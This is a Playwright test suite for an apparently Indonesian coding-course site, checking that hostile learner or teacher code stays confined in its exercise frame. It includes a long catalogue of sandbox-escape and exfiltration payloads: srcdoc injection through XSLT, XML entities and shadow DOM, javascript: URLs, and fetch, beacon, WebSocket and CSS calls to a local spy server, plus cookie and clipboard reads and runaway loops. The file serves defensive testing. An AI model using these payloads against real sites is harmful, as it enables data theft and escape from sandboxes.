import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page, Request } from '@playwright/test'
import { enrollNewStudent } from './courses.ts'
import { publishExercise } from './exercises.ts'
import { expect, ready, test, thorough } from './test.ts'

// Hostile code of a teacher or a learner, in a real browser: it reaches no server, no token, no other frame, and stops.

test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })

let spy: Server
let spyUrl: string
const received: string[] = []
test.beforeAll(async () => {
  spy = createServer((request, response) => {
    received.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('ok')
  })
  await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve))
  spyUrl = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`
})
test.afterAll(() => new Promise((resolve) => spy.close(resolve)))
test.beforeEach(() => void received.splice(0))

/** What the frame has asked the network for; `csp` is the browser's word for what its policy kept back. */
function logFrameRequests(page: Page) {
  const sent = new Map<Request, string>()
  page.on('request', (request) => {
    const { pathname, protocol, href } = new URL(request.url())
    const isOfFrame = request.frame() !== page.mainFrame() && pathname !== '/exercise-frame'
    if ((isOfFrame || href.startsWith(spyUrl)) && !['data:', 'blob:', 'about:'].includes(protocol))
      sent.set(request, `${request.method()} ${href}`)
  })
  page.on('requestfailed', (request) => request.failure()?.errorText === 'csp' && sent.delete(request))
  return () => [...sent.values()]
}

type Language = 'web' | 'javascript'
const fileOf = { web: 'index.html', javascript: 'utama.js' }

async function runHostile(
  page: Page,
  request: Parameters<typeof publishExercise>[0],
  language: Language,
  text: string,
) {
  const exercise = await publishExercise(request, 'Kelas jahat', {
    language,
    files: [{ path: fileOf[language], text }],
    tests: "tes('selesai', () => harap(1).sama(1))",
  })
  await enrollNewStudent(page, exercise.id)
  await page.goto(exercise.url)
  await ready(page)
  const listSent = logFrameRequests(page)
  await page.getByRole('tab', { name: 'Kode' }).click()
  await page.getByRole('button', { name: 'Jalankan' }).click()
  return { url: exercise.url, listSent }
}

/** The page is as it was and answers, and neither an outside server nor the log of the network has anything from the frame. */
async function expectUnharmed(page: Page, { url, listSent }: Awaited<ReturnType<typeof runHostile>>) {
  await expect(page).toHaveURL(url)
  await expect(page).toHaveTitle(/Latihan menjumlah/)
  await page.getByRole('tab', { name: 'Tugas' }).click()
  await expect(page.getByText('Jumlahkan dua angka.')).toBeVisible()
  expect(page.context().pages()).toHaveLength(1)
  await expect.poll(listSent).toEqual([])
  expect(received).toEqual([])
}

test(
  'a hostile page sends nothing, reads nothing of the site, and changes nothing outside of its frame',
  thorough,
  async ({ page, request }) => {
    test.slow()
    const attack = (name: string, code: string) =>
      `try { await (async () => { ${code} })(); hasil.push('${name}') } catch { hasil.push('${name} ditolak') }`
    const html = `<!doctype html><html><head><title>Dicuri</title>
    <meta http-equiv="refresh" content="0;url=${spyUrl}/meta">
    <link rel="prefetch" href="${spyUrl}/prefetch"><link rel="preconnect" href="${spyUrl}"><link rel="stylesheet" href="${spyUrl}/gaya">
    <style>@import url(${spyUrl}/impor); body { background: url(${spyUrl}/latar) } @font-face { font-family: x; src: url(${spyUrl}/huruf) } p { font-family: x }</style>
    </head><body><p>a</p><img src="${spyUrl}/gambar"><iframe src="${spyUrl}/bingkai"></iframe>
    <form id="f" action="${spyUrl}/formulir" method="post"><input name="a"></form><a id="a" href="${spyUrl}/tautan" target="_top">a</a>
    <script>
    const hasil = [];
    (async () => {
      // First: an inner frame that runs answers during what follows.
      const dalam = "<script>parent.postMessage('jalan ' + typeof RTCPeerConnection, '*'); fetch('${spyUrl}/dalam'); new Image().src = '${spyUrl}/dalam2'</scr" + "ipt>";
      const bingkaiJs = "javascript:parent.postMessage('jalan', '*')";
      const kutip = dalam.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
      const bingkai = () => document.body.appendChild(document.createElement('iframe'));
      const buat = () => document.createElement('iframe');
      addEventListener('message', ({ data }) => String(data).startsWith('jalan') && hasil.push('bingkai ' + data));
      const xml = (teks) => new DOMParser().parseFromString(teks, 'text/xml');
      for (const code of [
        () => (bingkai().srcdoc = dalam),
        () => bingkai().setAttribute('SRCDOC', dalam),
        () => bingkai().setAttributeNS(null, 'srcdoc', dalam),
        () => { const a = document.createAttribute('srcdoc'); a.value = dalam; bingkai().setAttributeNode(a) },
        () => { const a = document.createAttribute('srcdoc'); bingkai().attributes.setNamedItem(a); a.value = dalam },
        () => { const b = document.implementation.createHTMLDocument().createElement('iframe'); b.setAttribute('srcdoc', dalam); document.body.append(b) },
        () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + kutip + '"></iframe>'),
        () => (document.body.appendChild(document.createElement('div')).innerHTML = '<iframe srcdoc="' + kutip + '"></iframe>'),
        () => document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }).setHTMLUnsafe('<iframe srcdoc="' + kutip + '"></iframe>'),
        () => document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + kutip + '"></iframe>')),
        () => document.body.append(Document.parseHTMLUnsafe('<iframe srcdoc="' + kutip + '"></iframe>').querySelector('iframe')),
        () => document.body.append(xml('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + kutip + '"/>').documentElement),
        () => document.body.append(xml('<!DOCTYPE a [<!ENTITY e "<h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\' s&#114;cdoc=\\'' + kutip.replaceAll('&', '&#38;').replaceAll("'", '&#39;') + '\\'/>">]><a>&e;</a>').documentElement.firstChild),
        () => { const p = new XSLTProcessor(); p.importStylesheet(xml('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml"><x:attribute name="{concat(\\'src\\',\\'doc\\')}">' + kutip + '</x:attribute></iframe></x:template></x:stylesheet>')); document.body.append(p.transformToFragment(xml('<a/>'), document)) },
        () => (bingkai().src = bingkaiJs),
        () => { const b = buat(); b.src = bingkaiJs; document.body.append(b) },
        () => (bingkai().src = 'data:text/html,' + dalam),
        () => (bingkai().src = URL.createObjectURL(new Blob([dalam], { type: 'text/html' }))),
        () => (bingkai().src = '/api/me'),
        () => (bingkai().contentWindow.location = bingkaiJs),
        () => hasil.push('bingkai kosong ' + typeof bingkai().contentWindow.RTCPeerConnection),
        () => hasil.push('aturan ' + trustedTypes.createPolicy('lain', { createHTML: (a) => a })),
      ]) try { code() } catch {}
      ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
      ${attack('fetch situs', "await fetch('/api/me')")}
      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 'whether it was sent is seen outside'`)}
      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${spyUrl}/peristiwa'); w.onopen = a; w.onerror = b })`)}
      ${attack('webrtc', 'new RTCPeerConnection()')}
      ${attack('impor', `await import('${spyUrl}/modul.js')`)}
      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${spyUrl}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => (data ? a() : b()); w.onerror = b })`)}
      ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
      ${attack('penyimpanan', 'localStorage.length')}
      ${attack('kuki', 'document.cookie')}
      ${attack('basis data', "await new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b })")}
      ${attack('cache', "await caches.open('x')")}
      ${attack('induk', 'parent.document.title')}
      ${attack('induk penyimpanan', 'top.localStorage.length')}
      ${attack('papan klip', 'await navigator.clipboard.readText()')}
      ${attack('memori bersama', 'new SharedArrayBuffer(1)')}
      ${attack('eval', "eval('1')")}
      ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
      parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
      const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${spyUrl}/gaya2) }"; document.head.append(gaya)
      console.log('HASIL ' + hasil.join(','))
    })()
    </script></body></html>`
    const run = await runHostile(page, request, 'web', html)
    const report = page.getByText(/^HASIL /)
    await expect(report).toBeVisible()
    const listSucceeded = async () =>
      (await report.innerText())
        .replace('HASIL ', '')
        .split(',')
        .filter((name) => !name.endsWith('ditolak'))
    await expect.poll(listSucceeded).toEqual([])
    await expectUnharmed(page, run)
  },
)

// What the policy of the page lets its own frames open is refused to code as well.
for (const [name, code] of [
  ['another site', () => `location = '${spyUrl}/pergi'`],
  ['a video host', () => "location = 'https://www.youtube-nocookie.com/embed/x?curian=1'"],
  ['the site itself', () => "location = '/'"],
  ['a call of the site', () => "location.assign('/api/me')"],
  ['a document of its own', () => "location = URL.createObjectURL(new Blob(['<p>a'], { type: 'text/html' }))"],
  ['its frame around', () => "location.replace('/exercise-frame?lagi')"],
  [
    'a link that it presses',
    () => "const a = document.createElement('a'); a.href = '/kelas'; a.dispatchEvent(new MouseEvent('click'))",
  ],
  [
    'the page above, and its frame',
    () => "try { top.location = '/' } catch {} try { parent.location = '/kelas' } catch {} location = '/'",
  ],
] as const)
  test(`a page that opens ${name} sends nothing and is closed with a sentence`, thorough, async ({ page, request }) => {
    const run = await runHostile(
      page,
      request,
      'web',
      `<p>a</p><script>requestAnimationFrame(() => { ${code()} })</script>`,
    )
    await expect(page.getByText(/mencoba membuka halaman lain|Semua 1 tes lulus/)).toBeVisible()
    await expectUnharmed(page, run)
  })

test('hostile code in a worker sends nothing and finds no token', thorough, async ({ page, request }) => {
  const code = `const hasil = []
    for (const [nama, coba] of Object.entries({
      xhr() { const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send() },
      impor() { importScripts('${spyUrl}/impor.js') },
      penyimpanan() { localStorage.length },
      induk() { parent.document },
      memori() { new SharedArrayBuffer(1) },
      fungsi() { new Function('return 1')() },
    })) try { coba(); hasil.push(nama) } catch {}
    fetch('${spyUrl}/fetch').then(() => console.log('BOCOR'), () => console.log('HASIL ' + hasil.join(',')))`
  const run = await runHostile(page, request, 'javascript', code)
  await expect(page.getByText(/^HASIL\s*$/)).toBeVisible()
  await expectUnharmed(page, run)
})

for (const [name, language, code, sentence] of [
  ['an endless loop', 'javascript', 'while (true) {}', /dihentikan setelah 5 detik/],
  [
    'an endless loop in a promise',
    'javascript',
    'Promise.resolve().then(() => { for (;;) {} })',
    /dihentikan setelah 5 detik/,
  ],
  [
    'endless microtasks',
    'javascript',
    'const ulang = () => Promise.resolve().then(ulang)\nulang()',
    /Semua 1 tes lulus|dihentikan setelah 5 detik/,
  ],
  [
    'a flood of messages',
    'javascript',
    "for (;;) postMessage({ kind: 'line', level: 'log', text: 'x' })",
    /keluarannya terlalu banyak|dihentikan setelah 5 detik/,
  ],
  [
    '10 MB of output',
    'javascript',
    "for (let i = 0; i < 1e5; i++) console.log('x'.repeat(100))",
    /Sisanya tidak tampil/,
  ],
  ['recursion', 'javascript', 'function f() { return f() }\nf()', /memanggil dirinya tanpa henti/],
  ['a syntax error', 'javascript', 'const a = 1\nconst b = (2', /utama\.js, baris 2|utama\.js, baris 3/],
  [
    'endless alerts in a page',
    'web',
    '<p>a</p><script>while (true) alert(1)</script>',
    /keluarannya terlalu banyak|dihentikan setelah 5 detik/,
  ],
  ['an endless loop in a page', 'web', '<p>a</p><script>while (true);</script>', /dihentikan setelah 5 detik/],
  [
    'an endless loop in a getter of a page',
    'web',
    '<p>a</p><script>const o = { get a() { for (;;) {} } }; o.a</script>',
    /dihentikan setelah 5 detik/,
  ],
  ['broken HTML', 'web', '<<p><div </span><table><h1>Halo<script>', /1 dari 1|Semua 1 tes lulus/],
] as const)
  test(`${name} ends in a sentence`, thorough, async ({ page, request }) => {
    const run = await runHostile(page, request, language, code)
    await expect(page.getByText(sentence).first()).toBeVisible({ timeout: 15_000 })
    await expectUnharmed(page, run)
  })
